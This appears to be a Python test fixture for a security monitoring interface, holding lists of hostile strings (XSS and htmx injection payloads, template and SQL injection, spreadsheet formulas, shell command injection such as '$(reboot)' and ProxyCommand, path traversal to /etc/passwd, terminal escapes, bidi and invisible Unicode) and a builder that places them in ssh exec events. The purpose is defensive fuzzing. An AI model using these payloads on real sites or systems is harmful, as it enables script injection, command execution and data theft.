"""Hostile texts that an attacker could use as a name or an argument, and events that contain them."""

import unicodedata
from typing import Any

from tests.factories import exec_event

MARKUP = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>x",
    "<textarea><!--",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</bdi></span></td></tr></table><h1>owned</h1>",
    "<td><tr><table>",
    "<!-- unclosed",
    "<![CDATA[x]]>",
    "<?php echo 1 ?>",
    "<x" + " a" * 500 + ">",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "`onmouseover=alert(1)",
    '" autofocus onfocus=alert(1) x="',
    '" style="position:fixed;inset:0',
    '" hx-get="//evil.example" hx-trigger="load',
    '<div hx-get="//evil.example/x" hx-trigger="load">',
    '<div hx-on:load="alert(1)">',
    '<div data-hx-post="/logout" hx-trigger="load">',
    '<hx-partial hx-target="body">owned</hx-partial>',
    '" sse-connect="//evil.example',
    '"/><input name="csrf" value="x',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "&",
    "&amp;amp;",
    "%3Cscript%3E",
    "\\u003cscript\\u003e",
    "\\x3cscript\\x3e",
    "＜script＞alert(1)＜/script＞",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
)
OTHER_LANGUAGES = (
    "{{7*7}}",
    "{% raw %}{% endraw %}{{ config }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "__class__.__mro__",
    "%s%n%d%(x)s",
    "{0.__class__}",
    "'; DROP TABLE alert; --",
    "' OR 1=1 --",
    "%' ESCAPE '!",
    "_%_%",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1",
    "@SUM(A1)",
    "$(reboot)",
    "`reboot`",
    "; reboot #",
    "| tee /etc/passwd",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "C:\\Windows\\System32",
    "//evil.example/",
    "https://evil.example/?x=1#y",
    "ssh://root@evil.example:22",
    "[::1%lo]:22",
    "-oProxyCommand=reboot",
    "--",
    "-",
    "*",
    "?" * 200,
    "*" * 200,
    "null",
    "undefined",
    "true",
    "NaN",
    "0x1F",
    "1e999",
    "9" * 400,
    "-" + "9" * 40,
    "٣٤٥",
    "１２３",
    " ",
    "  leading and trailing  ",
    "\\",
    "\\\\",
    "\\n",
    "\\x00",
    "\\ud800",
    '"',
    "'",
    "\"'\"'\"'",
    "# Markdown\n\n* [x](javascript:alert(1))",
    "[click](https://evil.example)",
    "| a | b |\n|---|---|",
    "line\nline",
    "line\r\nline",
    "head: x\r\nSet-Cookie: a=b\r\n\r\n<script>",
    '2026-11-24 ERROR root "forged"\n{"level":"error"}',
    "\x1b[2J\x1b[31mred\x1b[0m",
    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    "abc\x08\x08\x08xyz",
    "раураl",
    "ѕѕһ",
    "ｓｓｈ",
    "e\u0301" * 20,
    "Z" + "\u0300\u0301\u0302" * 100,
    "👩‍👩‍👧‍👦",
    "🇩🇪",
    "مرحبا",
    "שלום",
    "𝓼𝓼𝓱",
    "ﷺ",
)
CONTROLS = tuple(f"a{chr(code)}b" for code in (*range(0x20), *range(0x7F, 0xA1)))
INVISIBLE = tuple(
    f"a{chr(code)}b"
    for code in (
        *(0x00AD, 0x034F, 0x061C, 0x115F, 0x1160, 0x17B4, 0x180E, 0x1680),
        *range(0x2000, 0x2010),
        *range(0x2028, 0x2030),
        *range(0x205F, 0x2070),
        *(0x2800, 0x3000, 0x3164, 0xFE00, 0xFE0F, 0xFEFF, 0xFFA0, 0xFFF9, 0xFFFB),
        *(0xE000, 0xFDD0, 0xFFFE, 0xFFFF, 0x1D173, 0x1FFFF, 0xE0001, 0xE0041, 0xF0000, 0x10FFFF),
    )
)
SURROGATES = ("a\ud800b", "a\udfffb", "\udcff", "\ud83d", "\ude00\ud83d", "\ud800" * 50)
REVERSED = (
    "\u202egnp.exe",
    "root\u202e\u2066// \u2069\u2066",
    "\u2067" * 100,
    "\u202b\u202b\u202b no end",
)
LONG = (
    "x" * 1_000_000,
    "é" * 300_000,
    "\u202e" * 100_000,
    "\ud800" * 100_000,
    "a\\" * 200_000,
    "<script>" * 50_000,
    " " * 500_000,
    "\"'" * 200_000,
    "word " * 100_000,
)
HOSTILE: tuple[str, ...] = (
    *MARKUP,
    *OTHER_LANGUAGES,
    *CONTROLS,
    *INVISIBLE,
    *SURROGATES,
    *REVERSED,
    *LONG,
)


def text_id(text: str) -> str:
    """Return a short, printable id for a test of `text`."""
    shown = "".join(c if "!" <= c <= "~" else unicodedata.category(c) for c in text[:24])
    return f"{shown}-{len(text)}"


def hostile_event(text: str, event_id: str) -> dict[str, Any]:
    """Return an exec event of ssh in a container, with `text` in every field that a page shows."""
    # Only one argument has the complete text: with a long text in every field, the event would exceed the
    # size limit.
    short = text[:5_000]
    other = {
        "name": short,
        "executable": short,
        "args": [short, short],
        "pid": 7,
        "entity_id": short,
        "user": {"name": short, "id": short},
    }
    words = ("-o", f"ProxyCommand={short}", "-L", f"{short}:h:22", "-i", short, "-J", short)
    event = exec_event("ssh", *words, f"{short}@{short}", text, short, event_id=event_id)
    process = other | {
        "name": "ssh",
        "args": event["process"]["args"],
        "working_directory": short,
        "hash": {"sha256": short},
        "title": short,
        "parent": other,
        "entry_leader": other
        | {"entry_meta": {"type": ["container", short], "source": {"ip": short}}},
    }
    return event | {
        "@timestamp": short,
        "agent": {"type": short},
        "host": {"name": short, "os": {"type": "linux"}},
        "user": {"name": short, "id": short},
        "container": {
            "id": short,
            "name": short,
            "image": {"name": short, "tag": [short], "hash": {"all": [short]}},
            "labels": {short: short, "app": short, "nested": {short: [short]}},
        },
        "orchestrator": {"namespace": short, "resource": {"name": short}},
        "process": process,
    }
